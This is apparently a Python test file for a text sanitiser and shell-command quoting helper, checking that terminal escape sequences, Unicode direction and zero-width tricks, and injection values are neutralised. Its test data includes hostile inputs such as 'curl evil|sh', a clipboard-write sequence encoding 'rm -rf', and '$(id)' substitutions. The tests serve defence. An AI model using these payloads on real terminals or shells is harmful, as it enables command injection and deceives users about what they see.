"""Text made safe to show, at the height of single strings, where attacks are easiest to read."""

from __future__ import annotations

import os
import subprocess
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.reports.plain import first_lines, last_lines, natural, one_line, plain
from assay.shown import command

ESC = "\x1b"


@pytest.mark.parametrize(
    ("attack", "shown"),
    [
        pytest.param(f"{ESC}[2J{ESC}[Hhi", "hi", id="clears the screen"),
        pytest.param(f"{ESC}[1A{ESC}[2KPASS", "PASS", id="overwrites the line above"),
        pytest.param("\x9b31mred", "red", id="8-bit control sequence"),
        pytest.param(f"{ESC}]8;;https://evil.test{ESC}\\safe{ESC}]8;;{ESC}\\", "safe", id="OSC 8"),
        pytest.param(f"{ESC}]0;title\x07text", "text", id="sets the window title"),
        pytest.param(f"{ESC}]52;c;cm0gLXJm\x07x", "x", id="writes to the clipboard"),
        pytest.param(f"{ESC}P+q544e{ESC}\\x", "x", id="device control string"),
        pytest.param(f"{ESC}cx", "x", id="resets the terminal"),
        pytest.param(f"{ESC}(0x", "x", id="switches the character set"),
        pytest.param(
            f"{ESC}]0;never ended", "0;never ended", id="unterminated string hides nothing"
        ),
        pytest.param(f"{ESC}[{ESC}[31mx", "x", id="nested introducer"),
        pytest.param("FAIL\rPASS", "FAIL\nPASS", id="carriage return overwrites"),
        pytest.param("FAIL\b\b\b\bPASS", "FAIL\\x08\\x08\\x08\\x08PASS", id="backspace overwrites"),
        pytest.param("a\u202egnp.exe", "a\\u202egnp.exe", id="right-to-left override"),
        pytest.param("a\u2066b\u2069", "a\\u2066b\\u2069", id="direction isolates"),
        pytest.param("a\u200bb\ufeff", "a\\u200bb\\ufeff", id="zero width"),
        pytest.param("a\U000e0041", "a\\U000e0041", id="tag characters"),
        pytest.param("a\u2028b", "a\\u2028b", id="line separator"),
        pytest.param("a\x85b", "a\\x85b", id="next line"),
        pytest.param("a\x00b", "a\\x00b", id="null"),
        pytest.param("a\ud800b", "a\\ud800b", id="lone surrogate"),
        pytest.param("one\r\ntwo\ttab", "one\ntwo\ttab", id="ordinary white space stays"),
        pytest.param("héllo 漢字 👩\u200d💻", "héllo 漢字 👩\u200d💻", id="ordinary text stays"),
    ],
)
def test_nothing_shown_can_act_on_a_terminal(attack: str, shown: str) -> None:
    assert plain(attack) == shown


@given(st.text(st.characters(exclude_categories=()), max_size=200))
def test_plain_text_has_no_control_direction_or_surrogate_character(text: str) -> None:
    shown = plain(text)
    left = {c for c in shown if unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp")}
    assert left <= {"\n", "\t"}
    marks = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    assert not [c for c in shown if unicodedata.bidirectional(c) in marks]
    assert plain(shown) == shown


def test_a_flood_keeps_head_and_tail_and_ends_soon() -> None:
    shown = plain("head" + f"{ESC}]x" * 400_000 + "tail")
    assert shown.startswith("head")
    assert shown.endswith("tail")
    assert "characters cut" in shown
    assert len(shown) < 200_000


def test_lines_are_kept_from_the_end_that_matters() -> None:
    assert one_line("a\n\n  b\tc") == "a b c"
    assert one_line("x" * 50, 10) == "x" * 9 + "…"
    text = "\n".join(str(n) for n in range(1, 7))
    assert first_lines(text, 2) == ["1", "2", "… 4 lines more"]
    assert last_lines(text, 2) == ["… 4 lines before", "5", "6"]
    assert last_lines("a\nb", 1) == ["… 1 line before", "b"]
    assert first_lines("a\nb", 2) == ["a", "b"]
    assert first_lines(" \n \n", 3) == []
    assert first_lines("abcdef", 1, width=4) == ["abcd… 2 characters more"]


def test_names_with_numbers_stand_in_the_order_in_which_people_count() -> None:
    names = ["10", "1", "a10b2", "2", "a9b10", "a10b1", "", "b", f"x{'9' * 5000}", "x010", "x9"]
    assert sorted(names, key=natural) == (
        ["", "1", "2", "10", "a9b10", "a10b1", "a10b2", "b", "x9", "x010", f"x{'9' * 5000}"]
    )


def test_attack_a_copied_command_neither_ends_early_nor_is_obeyed_by_the_terminal() -> None:
    words = [
        "plain", "a b", "", "it's", "$(id)", "`id`", "\\", "é", "x\x03\ncurl evil|sh\n",
        "\x1b[201~'", "\u202egnp",
        "a\u200bb", "\x01f'\\", "\x85\u2028", "\U000e0041", "--", "~", "*",
    ]  # fmt: skip
    written = command("printf", r"%s\0", *words)
    assert written.isprintable()
    told = subprocess.run(
        ["bash", "-c", written],
        stdout=subprocess.PIPE,
        check=True,
        env={"PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8"},
    )
    assert told.stdout.decode().split("\0")[:-1] == words
